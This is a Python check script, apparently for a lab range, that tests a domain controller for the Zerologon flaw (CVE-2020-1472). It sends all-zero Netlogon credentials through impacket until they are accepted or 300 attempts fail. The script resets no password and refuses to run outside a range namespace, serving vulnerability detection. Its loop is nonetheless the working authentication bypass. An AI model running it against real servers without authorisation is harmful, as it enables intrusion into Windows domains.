#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""zerologon.py NAME ADDRESS: the test for CVE-2020-1472 as scanners make it: an all-zero challenge and
credential, until accepted or 300 times. Changes nothing. Exit 3 if refused (a patched server).

Only inside a network namespace of the range."""
import os
import subprocess
import sys

from impacket.dcerpc.v5 import epm, nrpc, transport

if not subprocess.run(["ip", "netns", "identify", str(os.getpid())], capture_output=True, text=True).stdout.strip():
    sys.exit("not in a namespace of the range")
name, address = sys.argv[1:3]
where = epm.hept_map(address, nrpc.MSRPC_UUID_NRPC, protocol="ncacn_ip_tcp")
rpc = transport.DCERPCTransportFactory(where).get_dce_rpc()
rpc.connect()
rpc.bind(nrpc.MSRPC_UUID_NRPC)
for i in range(300):
    nrpc.hNetrServerReqChallenge(rpc, name + "\0", name + "\0", b"\0" * 8)
    try:
        nrpc.hNetrServerAuthenticate3(rpc, name + "\0", name + "$\0", nrpc.NETLOGON_SECURE_CHANNEL_TYPE.ServerSecureChannel,
                                      name + "\0", b"\0" * 8, 0x212FFFFF)
    except nrpc.DCERPCSessionError as e:
        if e.get_error_code() != 0xC0000022:
            raise
    else:
        print("accepted")
        sys.exit(0)
print("refused 300 times")
sys.exit(3)
